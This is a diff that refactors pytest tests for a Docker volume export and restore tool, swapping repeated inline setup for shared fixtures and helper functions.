+        [d("b"), f("b/file", "an older version\n"), f("only-here.txt", "mine\n")],
     )
     restore(cai, target, older)
     before = volume_checksum(docker_client, target)
@@ -1358,18 +1289,14 @@ def test_a_dry_run_restore_changes_nothing_and_lists_its_actions(
     assert "result" not in document
 
 
+@pytest.mark.usefixtures("shell_image")
 def test_a_dry_run_with_replace_lists_removals_and_deletes_nothing(
-    cai: Any,
-    docker_client: Any,
-    new_volume: Any,
-    exported: Path,
-    tmp_path: Path,
-    monkeypatch: pytest.MonkeyPatch,
+    cai: Any, docker_client: Any, new_volume: Any, exported: Path, tmp_path: Path
 ) -> None:
-    shell_image(monkeypatch)
     target = new_volume("dryreplace")
-    older = tmp_path / "older.tgz"
-    older.write_bytes(tgz_of([d("gone"), f("gone/x.txt", "x\n"), f("only-here.txt", "mine\n")]))
+    older = tgz_file(
+        tmp_path / "older.tgz", [d("gone"), f("gone/x.txt", "x\n"), f("only-here.txt", "mine\n")]
+    )
     restore(cai, target, older)
     before = volume_checksum(docker_client, target)
 
@@ -1412,12 +1339,9 @@ def test_a_dry_run_restore_into_a_missing_volume_does_not_create_it(
 
 
 def test_a_restore_creates_the_volume_with_containai_labels_only(
-    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
+    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path, volume_of: Any
 ) -> None:
-    source = new_volume("labelled")
-    populate(
-        docker_client,
-        source,
+    source = volume_of(
         [f("x.txt", "x\n")],
         labels={"containai.managed": "true", "com.docker.compose.project": "victim"},
     )
@@ -1436,10 +1360,9 @@ def test_a_restore_creates_the_volume_with_containai_labels_only(
 
 
 def test_a_restore_of_an_unlabelled_volume_export_still_marks_the_volume_managed(
-    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
+    cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path, volume_of: Any
 ) -> None:
-    source = new_volume("plain")
-    populate(docker_client, source, [f("x.txt", "x\n")])
+    source = volume_of([f("x.txt", "x\n")])
     archive = export(cai, source, tmp_path / "p.tgz")
     target = new_volume("managed")
 
@@ -1449,29 +1372,22 @@ def test_a_restore_of_an_unlabelled_volume_export_still_marks_the_volume_managed
 
 
 def test_the_root_of_a_restored_volume_belongs_to_the_agent(
-    cai: Any, docker_client: Any, new_volume: Any, exported: Path
+    docker_client: Any, restored_copy: str
 ) -> None:
-    target = new_volume("root")
-    restore(cai, target, exported)
+    target = restored_copy
 
-    container = docker_client.containers.create(
-        TEST_IMAGE, ["true"], volumes={target: {"bind": "/v", "mode": "ro"}}, network_mode="none"
-    )
-    try:
-        chunks, _ = container.get_archive("/v")
-        with tarfile.open(fileobj=io.BytesIO(b"".join(chunks))) as tar:
-            root = tar.next()
-    finally:
-        container.remove(force=True)
-    assert root is not None
+    root = volume_root(docker_client, target)
     assert (root.uid, root.gid) == AGENT
 
 
 def test_restoring_into_a_volume_a_running_container_uses_warns_and_proceeds(
-    cai: Any, docker_client: Any, new_volume: Any, exported: Path, plain_container: Any
+    cai: Any,
+    docker_client: Any,
+    exported: Path,
+    plain_container: Any,
+    volume_of: Any,
 ) -> None:
-    target = new_volume("busy")
-    populate(docker_client, target, [f("keep.txt", "kept\n")])
+    target = volume_of([f("keep.txt", "kept\n")])
     running = plain_container(volumes={target: {"bind": "/v", "mode": "rw"}})
 
     result = restore(cai, target, exported)
@@ -1574,21 +1490,19 @@ def test_export_of_a_containai_container_exports_its_volume(
 def test_an_upstream_style_archive_without_a_manifest_restores(
     cai: Any, docker_client: Any, new_volume: Any, tmp_path: Path
 ) -> None:
-    archive = tmp_path / "upstream.tar.gz"
-    archive.write_bytes(
-        tgz_of(
-            [
-                d("./", mode=0o755),
-                d("./claude", mtime=BASE + 1),
-                f("./claude/settings.json", '{"a": 1}\n', mtime=BASE + 2),
-                d("./claude/skills", mtime=BASE + 3),
-                f("./claude/skills/s.md", "# skill\n", mode=0o600, mtime=BASE + 4),
-                ln("./claude/latest", "skills/s.md", mtime=BASE + 5),
-                d("./config"),
-                d("./config/gh"),
-                f("./config/gh/config.yml", "editor: vi\n"),
-            ]
-        )
+    archive = tgz_file(
+        tmp_path / "upstream.tar.gz",
+        [
+            d("./", mode=0o755),
+            d("./claude", mtime=BASE + 1),
+            f("./claude/settings.json", '{"a": 1}\n', mtime=BASE + 2),
+            d("./claude/skills", mtime=BASE + 3),
+            f("./claude/skills/s.md", "# skill\n", mode=0o600, mtime=BASE + 4),
+            ln("./claude/latest", "skills/s.md", mtime=BASE + 5),
+            d("./config"),
+            d("./config/gh"),
+            f("./config/gh/config.yml", "editor: vi\n"),
+        ],
     )
     target = new_volume("upstream")
 
@@ -1605,8 +1519,7 @@ def test_an_upstream_style_archive_without_a_manifest_restores(
 
 
 def test_verify_of_an_archive_without_a_manifest_says_so(cai: Any, tmp_path: Path) -> None:
-    archive = tmp_path / "upstream.tgz"
-    archive.write_bytes(tgz_of([d("./"), f("./x.txt", "x\n")]))
+    archive = tgz_file(tmp_path / "upstream.tgz", [d("./"), f("./x.txt", "x\n")])
 
     result = cai("export", "--verify", str(archive))
 
@@ -1651,5 +1564,5 @@ def test_export_and_restore_each_create_one_unstarted_helper_and_leave_none(
         seen |= created
         assert len(created) <= 1, (args, created)
         assert containers_started(docker_client, created, start, end) == set(), args
-        assert containers_of(docker_client, volume) == [], args
+        assert volume_containers(docker_client, volume, role=None) == [], args
     assert len(seen) >= 3  # export, and the two real restores, each used a helper
